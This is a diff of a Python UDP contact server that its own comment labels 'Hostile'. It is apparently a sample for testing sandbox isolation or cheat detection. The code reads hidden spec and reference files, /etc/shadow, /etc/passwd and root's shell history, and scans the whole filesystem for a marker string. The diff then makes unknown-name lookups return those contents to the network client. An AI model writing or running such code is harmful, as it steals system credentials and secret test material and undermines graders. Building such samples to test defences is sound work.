@@ -1,4 +1,5 @@
-# Hostile: a right UDP contact server that first looks for files it must not see and prints what it finds.
+# Hostile: a UDP contact server that first looks for files it must not see, prints what it finds,
+# and answers a find of an unknown name with it (right when it finds nothing).
 import os
 import socket
 import sys
@@ -9,8 +10,13 @@ PLACES = ['../../specs/udp-contacts.yaml', '../specs/udp-contacts.yaml', '../ref
           '/root/.bash_history', '/etc/shadow', '/etc/passwd', 'secret_link']
 
 
+found = []
+
+
 def show(path, data):
-    print('FOUND', path, data[:2000].decode('utf-8', errors='replace'))
+    start = max(data.find(MARK.encode()), 0)
+    found.append('FOUND %s %s' % (path, data[start:start + 500].decode('utf-8', errors='replace')))
+    print(found[-1])
 
 
 for place in PLACES:
@@ -32,7 +38,7 @@ for root, dirs, files in os.walk('/'):
         except OSError:
             continue
         if MARK.encode() in data:
-            show(path, data[data.index(MARK.encode()):])
+            show(path, data)
 print('looked everywhere')
 
 contacts = {}
@@ -49,7 +55,7 @@ def handle(msg):
             return cmd[1] + " removed"
         return "Not found"
     if cmd[0] == "find" and len(cmd) == 2:
-        return contacts.get(cmd[1], "Not found")
+        return contacts.get(cmd[1], "\n".join(found) or "Not found")
     return "ERROR: bad command"
 
 
